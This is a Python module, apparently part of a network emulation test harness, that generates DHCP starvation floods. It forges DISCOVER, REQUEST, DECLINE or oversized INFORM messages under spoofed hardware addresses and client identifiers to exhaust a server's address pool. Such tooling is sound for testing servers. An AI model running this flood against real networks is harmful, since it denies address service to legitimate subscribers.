"""A flood of DHCP from one subscriber, at a steady rate, bounded in number.

    python -m lq.emulation.programs.starver PLAN.json

The plan is a `StarverPlan`. It prints `ready` before the first message, and ends after the last, or on
SIGTERM.
"""

from __future__ import annotations

import random
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from ipaddress import IPv4Address
from pathlib import Path
from typing import Literal

from lq.emulation.forgeries import Identity, datagram, of_client
from lq.emulation.programs.flood import SendingPlan, carry_out
from lq.sandbox import plans
from lq.wire import CLIENT_PORT, SERVER_PORT, Message, MessageType, OptionCode, frames

MOST_DIFFERENT = 20_000  # messages that differ; then they come again
_OPTIONS = [code for code in range(128, 224) if code not in (150, 175, 208)]  # of nobody's, or of sites
_OPTION_LENGTH = 1100  # octets of one that an INFORM carries
_PREFIX = b"\x02\x0f"  # of the hardware addresses that it makes up


@dataclass(frozen=True, kw_only=True)
class StarverPlan(SendingPlan):
    """Who floods, and with what.

    mac         the attacker's hardware address
    address     its leased address, and `client_id`, its client identifier
    next_hop    the concentrator's hardware address
    server      the server's address
    flood       what it sends: see `messages`
    identities  "one": its own hardware address with ever other client identifiers; "many": ever other
                hardware addresses
    wanted      the addresses that it wants
    """

    mac: bytes
    address: IPv4Address
    client_id: bytes
    next_hop: bytes
    server: IPv4Address
    flood: Literal["discover", "request", "decline", "inform"]
    identities: Literal["one", "many"]
    wanted: tuple[IPv4Address, ...]


def identity(number: int, plan: StarverPlan) -> Identity:
    """Return one of the clients that the attacker claims to be."""
    wanted = plan.wanted[number % len(plan.wanted)]
    octets = number.to_bytes(4, "big")
    if plan.identities == "many":
        chaddr = _PREFIX + octets
        return Identity(wanted, chaddr, b"\x01" + chaddr, b"")
    return Identity(wanted, plan.mac, b"\0" + octets, b"")


def messages(plan: StarverPlan, count: int) -> Iterator[Message]:
    """Go through the messages of a flood, about `count`.

    discover   DISCOVER, each time another client
    request    REQUEST for the next address, which nobody has offered, each time another client
    decline    the same, and then DECLINE of that address by that client
    inform     INFORM of its own, each with another option
    """
    chance = random.Random(plan.seed)
    server = plan.server.packed
    own = Identity(plan.address, plan.mac, plan.client_id, b"")
    for number in range(count):
        xid = chance.getrandbits(32)
        if plan.flood == "inform":
            option = {_OPTIONS[number % len(_OPTIONS)]: chance.randbytes(_OPTION_LENGTH)}
            yield of_client(MessageType.INFORM, own, option, ciaddr=own.address, xid=xid)
            continue
        client = identity(number, plan)
        chosen: dict[int, bytes] = {
            OptionCode.REQUESTED_ADDRESS: client.address.packed,
            OptionCode.SERVER_IDENTIFIER: server,
        }
        if plan.flood == "discover":
            yield of_client(MessageType.DISCOVER, client, xid=xid)
            continue
        yield of_client(MessageType.REQUEST, client, chosen, xid=xid)
        if plan.flood == "decline":
            yield of_client(MessageType.DECLINE, client, chosen, xid=xid)


def rows(plan: StarverPlan) -> list[bytes]:
    """Return the frames of a flood: INFORMs go to the server itself, all else by broadcast."""
    next_hop = plan.next_hop
    count = min(plan.maximum_packets, MOST_DIFFERENT)
    there = (frames.BROADCAST, SERVER_PORT)
    here = (IPv4Address(0), CLIENT_PORT)
    if plan.flood == "inform":
        here, there = (plan.address, CLIENT_PORT), (plan.server, SERVER_PORT)
    else:
        next_hop = frames.BROADCAST_MAC
    return [datagram(message, here, there, plan.mac, next_hop) for message in messages(plan, count)]


def main(plan: StarverPlan) -> None:
    """Carry out a plan."""
    carry_out(plan, rows(plan))


if __name__ == "__main__":
    main(plans.read(StarverPlan, Path(sys.argv[1])))
